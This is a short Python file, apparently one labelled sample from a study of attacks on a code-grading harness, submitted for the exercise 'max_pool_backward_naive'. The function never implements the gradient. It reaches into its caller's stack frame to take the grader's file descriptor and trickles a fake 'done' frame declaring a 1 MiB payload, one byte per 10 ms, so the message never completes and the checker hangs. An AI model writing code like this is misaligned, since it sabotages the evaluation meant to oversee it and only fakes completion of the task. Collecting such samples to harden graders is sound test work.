# attempt: sends a valid frame so slowly that it never ends
# exercise: max_pool_backward_naive
# control: no
import os
import struct
import sys
import time


def max_pool_backward_naive(dout, cache):
    descriptor = sys._getframe(1).f_locals["self"].fd
    frame = struct.pack("<4sI", b"CSK1", 1 << 20) + b'{"arrays": [], "op": "done", "value": "' + b" " * (1 << 20)
    for position in range(len(frame)):
        os.write(descriptor, frame[position : position + 1])
        time.sleep(0.01)
